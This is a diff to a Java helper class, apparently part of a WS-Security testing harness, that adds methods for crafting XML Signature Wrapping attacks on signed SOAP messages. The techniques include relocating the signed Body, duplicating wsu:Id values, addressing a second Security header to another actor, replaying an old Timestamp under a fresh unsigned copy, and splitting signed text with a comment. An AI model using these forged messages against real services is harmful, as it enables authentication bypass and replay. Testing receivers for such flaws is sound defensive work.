@@ -13,6 +13,7 @@ import java.security.PrivateKey;
 import java.security.cert.X509Certificate;
 import java.time.Duration;
 import java.time.Instant;
+import java.time.temporal.ChronoUnit;
 import java.util.Base64;
 import java.util.Date;
 import javax.xml.parsers.DocumentBuilderFactory;
@@ -28,10 +29,14 @@ import org.bouncycastle.cert.jcajce.JcaX509CertificateConverter;
 import org.bouncycastle.cert.jcajce.JcaX509v3CertificateBuilder;
 import org.bouncycastle.operator.OperatorCreationException;
 import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;
+import org.w3c.dom.Attr;
+import org.w3c.dom.CDATASection;
 import org.w3c.dom.Document;
 import org.w3c.dom.Element;
+import org.w3c.dom.NamedNodeMap;
 import org.w3c.dom.Node;
 import org.w3c.dom.NodeList;
+import org.w3c.dom.Text;
 import org.wsscost.pipeline.Soap;
 import org.wsscost.security.Santuario;
 import org.xml.sax.SAXException;
@@ -44,7 +49,10 @@ final class Craft {
     static final String WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd";
     static final String WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd";
     static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";
+    static final String XENC = "http://www.w3.org/2001/04/xmlenc#";
     private static final String ATTACKER = "urn:wsscost:attacker";
+    /** The actor a second Security header is addressed to: not the receiver. */
+    static final String ELSEWHERE = "urn:wsscost:elsewhere";
 
     static {
         Santuario.init();
@@ -85,13 +93,63 @@ final class Craft {
 
     /** The signed Body moved into a new header element, and {@code other}'s Body put where it was. */
     static byte[] wrappedBody(byte[] signed, byte[] other) {
+        return replacedBody(signed, other, (doc, body) -> newHeader(doc));
+    }
+
+    /** The signed Body moved to the end of the Security header, {@code other}'s Body put where it was. */
+    static byte[] bodyInSecurity(byte[] signed, byte[] other) {
+        return replacedBody(signed, other, (doc, body) -> first(doc, WSSE, "Security"));
+    }
+
+    /** The signed Body moved into a new {@code ds:Object} of the Signature, {@code other}'s Body put where it was. */
+    static byte[] bodyInObject(byte[] signed, byte[] other) {
+        return replacedBody(signed, other, (doc, body) -> {
+            Element signature = first(doc, DSIG, "Signature");
+            Element object = doc.createElementNS(DSIG, signature.getPrefix() == null ? "Object" : signature.getPrefix() + ":Object");
+            signature.appendChild(object);
+            return object;
+        });
+    }
+
+    /** {@code other}'s Body put where the signed Body was, the signed Body appended inside it, after its payload. */
+    static byte[] bodyNested(byte[] signed, byte[] other) {
+        return replacedBody(signed, other, (doc, body) -> body(doc));
+    }
+
+    /** {@code other}'s Body put where the signed Body was, with the signed Body's attributes (its wsu:Id), the signed one in a new header. */
+    static byte[] duplicateId(byte[] signed, byte[] other) {
+        return replacedBody(signed, other, (doc, body) -> {
+            Element forged = body(doc);
+            NamedNodeMap attributes = body.getAttributes();
+            for (int i = 0; i < attributes.getLength(); i++) {
+                forged.setAttributeNodeNS((Attr) attributes.item(i).cloneNode(true));
+            }
+            return newHeader(doc);
+        });
+    }
+
+    /** The signed Body moved into a second Security header addressed to another actor, {@code other}'s Body put where it was. */
+    static byte[] otherActor(byte[] signed, byte[] other) {
+        return replacedBody(signed, other, (doc, body) -> {
+            Element security = first(doc, WSSE, "Security");
+            Element second = doc.createElementNS(WSSE, security.getTagName());
+            second.setAttributeNS(Soap.NS, Soap.PREFIX + ":actor", ELSEWHERE);
+            header(doc).appendChild(second);
+            return second;
+        });
+    }
+
+    /** Where a wrapping attack puts the signed Body, once {@code other}'s Body has taken its place. */
+    private interface Wrapper {
+        Element of(Document doc, Element signedBody);
+    }
+
+    private static byte[] replacedBody(byte[] signed, byte[] other, Wrapper wrapper) {
         Document doc = parse(signed);
         Element body = body(doc);
-        Element wrapper = doc.createElementNS(ATTACKER, "atk:Wrapper");
-        header(doc).appendChild(wrapper);
         Node forged = doc.importNode(body(parse(other)), true);
         body.getParentNode().replaceChild(forged, body);
-        wrapper.appendChild(body);
+        wrapper.of(doc, body).appendChild(body);
         return serialize(doc);
     }
 
@@ -101,6 +159,80 @@ final class Craft {
         Element body = body(doc);
         body.getParentNode().insertBefore(doc.importNode(body(parse(other)), true), body);
         return serialize(doc);
+    }
+
+    /** {@code other}'s Body inserted after the signed Body, as the Envelope's last child. */
+    static byte[] bodyAfter(byte[] signed, byte[] other) {
+        Document doc = parse(signed);
+        Element body = body(doc);
+        body.getParentNode().insertBefore(doc.importNode(body(parse(other)), true), body.getNextSibling());
+        return serialize(doc);
+    }
+
+    /**
+     * An old Timestamp (moved by {@code age} and re-signed with {@code key}, as a message recorded long
+     * ago) moved into a new header, and a fresh, unsigned copy of it without its wsu:Id put in its place.
+     */
+    static byte[] wrappedTimestamp(byte[] signed, Duration age, PrivateKey key, Instant now) {
+        Document doc = parse(shiftedTimestamp(signed, age, key));
+        Element old = first(doc, WSU, "Timestamp");
+        Element fresh = (Element) old.cloneNode(true);
+        fresh.removeAttributeNS(WSU, "Id");
+        // whole seconds, a second behind: as a sender's clock writes it, never ahead of the receiver's
+        Instant created = now.truncatedTo(ChronoUnit.SECONDS).minusSeconds(1);
+        setTime(fresh, "Created", created);
+        setTime(fresh, "Expires", created.plus(Duration.ofMinutes(5)));
+        old.getParentNode().replaceChild(fresh, old);
+        newHeader(doc).appendChild(old);
+        return serialize(doc);
+    }
+
+    private static void setTime(Element timestamp, String field, Instant at) {
+        NodeList found = timestamp.getElementsByTagNameNS(WSU, field);
+        for (int i = 0; i < found.getLength(); i++) {
+            found.item(i).setTextContent(at.toString());
+        }
+    }
+
+    /**
+     * An empty comment put inside the first text of the Body's payload (at its first space, else in its
+     * middle). Exclusive canonicalization without comments leaves the comment out, so the signature
+     * still verifies; a binder that stops at the comment binds less than was signed.
+     */
+    static byte[] commentSplit(byte[] signed) {
+        Document doc = parse(signed);
+        Text text = textIn(body(doc));
+        String value = text.getData();
+        int space = value.indexOf(' ');
+        Text after = text.splitText(space > 0 ? space : value.length() / 2);
+        after.getParentNode().insertBefore(doc.createComment(""), after);
+        return serialize(doc);
+    }
+
+    /** The first non-blank text in the Body's payload: what {@link #commentSplit} splits. */
+    static String signedText(byte[] message) {
+        return textIn(body(parse(message))).getData();
+    }
+
+    private static Text textIn(Element body) {
+        Text text = firstText(body);
+        if (text == null) {
+            throw new IllegalArgumentException("no text in the Body's payload (an encrypted Body has none)");
+        }
+        return text;
+    }
+
+    private static Text firstText(Node node) {
+        for (Node n = node.getFirstChild(); n != null; n = n.getNextSibling()) {
+            if (n instanceof Text t && !(n instanceof CDATASection) && !t.getData().isBlank()) {
+                return t;
+            }
+            Text inside = n instanceof Element ? firstText(n) : null;
+            if (inside != null) {
+                return inside;
+            }
+        }
+        return null;
     }
 
     /** The Timestamp's Created and Expires moved by {@code by}, and the message re-signed with {@code key}. */
@@ -175,6 +307,13 @@ final class Craft {
                 markIds(child);
             }
         }
+    }
+
+    /** A new element of the attacker's namespace at the end of the Header. */
+    private static Element newHeader(Document doc) {
+        Element wrapper = doc.createElementNS(ATTACKER, "atk:Wrapper");
+        header(doc).appendChild(wrapper);
+        return wrapper;
     }
 
     private static Element body(Document doc) {
